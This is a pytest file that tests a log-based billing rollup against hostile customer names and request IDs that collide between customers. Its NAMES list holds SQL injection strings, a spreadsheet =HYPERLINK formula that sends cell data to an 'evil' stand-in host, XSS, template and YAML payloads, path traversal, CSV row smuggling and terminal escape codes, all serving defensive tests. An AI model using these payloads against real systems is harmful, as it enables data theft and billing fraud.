"""Customers who write log lines on purpose: names that inject, collide, overflow or turn text around, from the event to every
form of the bill. Nobody pays for another, and no report lies. (What breaks a line itself: test_lines.py.)"""

import csv
import io
import json
from typing import Any

import pytest
from rollup_world import World
from test_lines import audited, bill, line, send, usage

VICTIM = "victim"
NAMES = [
    VICTIM, "Victim", "victim ", " victim", "victim\u200b", "victim\u0301", "v\u0456ctim",  # look alike
    "victim' OR '1'='1", "'; DROP TABLE restapi_access_log_parquet; --", "victim\\", "victim\\' --", "${account}", "%s%n", "victim/*", "*",  # SQL, formats
    '=HYPERLINK("http://evil/?"&A1)', "+1", "-1+1", "@SUM(A1)", "'=1", "\tvictim",  # spreadsheets
    "<script>alert(1)</script>", "&lt;", "victim\", \"calls\": 0, \"x\": \"", "- a: b", "!!python/object:x", "a: [b", "# c", "{{7*7}}",  # HTML, JSON, YAML
    "a,b\"c", "a\nvictim,999999,0", "a\r\nb", "\x1b[2J\x1b[31mvictim", "\u202emitciv", "\u2066victim", "\x07", '"\\u0007"', "\x7f", "\u0085",  # CSV, terminals
    "null", "NULL", "true", "0", "1e9", "nan", "unattributed", "total", "2025-10-07", "..", "../../victim", "a=b/c=d",  # words of reports and paths
    "\U0001f4b8" * 50, "x" * 4000, "x" * 4001]


@pytest.fixture
def world(sandbox: Any, spec: Any, api: str) -> World:
    return World(sandbox, spec)


def plain(shown: str) -> str:
    """What could act is shown as JSON has it; so is what looks like that, or both would read alike."""
    return str(json.loads(shown)) if shown.startswith('"') else shown


def test_each_pays_for_his_own(world: World) -> None:
    """One event more for each name than for the one before, so that nobody's usage passes for another's."""
    world.apply()
    for number, name in enumerate(NAMES):
        send(world, *[line(requestId=f"n{number}-{i}", sub=name, username=name, clientId=name, responseLength=str(number),
                           path=f"/{name[:200]}") for i in range(number + 1)])
    found = bill(world)
    expected = {name: (number + 1, (number + 1) * number) for number, name in enumerate(NAMES)}
    shown = usage(found)
    assert {plain(name): usage for name, usage in shown.items()} == expected and len(shown) == len(expected)
    total = sum(calls for calls, _ in expected.values())
    rows = list(csv.DictReader(io.StringIO(world.run("bill", "--month", "2025-10", "-o", "csv").stdout)))
    cells = {("'" + name if name[0] in "=+-@'" else name): calls for name, (calls, _) in shown.items()}
    customers = [row for row in rows if row["customer"] in cells]
    assert {row["customer"]: int(row["calls"]) for row in customers} == cells
    assert not any(row["customer"][:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows)
    assert sum(int(row["calls"]) for row in customers) == total
    for words in (["-o", "text"], ["-o", "table"]):
        text = world.run("bill", "--month", "2025-10", *words).stdout
        acting = [c for c in text if c != "\n" and (ord(c) < 32 or 0x7f <= ord(c) < 0xa0 or c in "\u202e\u2066\u2028")]
        assert not acting, acting
    report = json.loads(audited(world, "-o", "json"))
    assert report["format_version"] and "victim,999999" not in json.dumps(report["included"])


def test_colliding_ids_take_nothing_from_another(world: World) -> None:
    """The same request id from two customers is two requests, or one; never the other's, and always told the same."""
    world.apply()
    send(world, line(requestId="same", sub=VICTIM, responseLength="100"), line(requestId="same", sub="attacker", responseLength="7"),
         line(requestId="mine", sub=VICTIM, responseLength="1"))
    send(world, line(requestId="mine", sub="attacker", responseLength="1000000"))
    found = usage(bill(world))
    assert found[VICTIM][1] <= 101 and found[VICTIM][0] <= 2, found
    assert found.get("attacker", (0, 0))[0] <= 2
    assert found[VICTIM] == (2, 101), found
